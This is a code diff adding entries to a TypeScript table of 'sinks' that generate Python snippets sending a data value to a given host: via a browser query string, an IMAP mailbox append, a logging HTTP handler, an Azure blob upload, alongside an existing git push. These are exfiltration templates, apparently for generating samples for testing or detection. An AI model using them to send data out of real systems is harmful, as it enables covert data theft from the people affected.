@@ -99,4 +99,16 @@ export const PY_SINKS: Readonly<Record<string, PySink>> = {
   },
   'git-push': (w, data, t) =>
     `${w.builtin('open')}('d.txt', 'w').write(str(${data}))\n${w.fn('os', 'system')}(${w.command(`git init -q && git add d.txt && git commit -qm d && git push -q ${urlOf(t, '/r.git')} HEAD`)})`,
+  browser: (w, data, t) =>
+    `${w.fn('selenium.webdriver', 'Chrome')}().get(${url(w, t)} + '?d=' + ${w.fn('urllib.parse', 'quote')}(str(${data})))`,
+  mailbox: (w, data, { host }) => {
+    const name = w.fresh('box')
+    return `${name} = ${w.fn('imaplib', 'IMAP4_SSL')}(${w.text(host)})\n${name}.login('u', 'p')\n${name}.append('INBOX', None, None, ${coded(data)})`
+  },
+  'log-handler': (w, data, { host }) => {
+    const name = w.fresh('log')
+    return `${name} = ${w.fn('logging', 'getLogger')}('x')\n${name}.addHandler(${w.fn('logging.handlers', 'HTTPHandler')}(${w.text(host)}, '/v', method='POST'))\n${name}.error('%s', str(${data}))`
+  },
+  blob: (w, data, t) =>
+    `${w.fn('azure.storage.blob', 'BlobClient')}.from_blob_url(${url(w, t)}).upload_blob(str(${data}))`,
 }
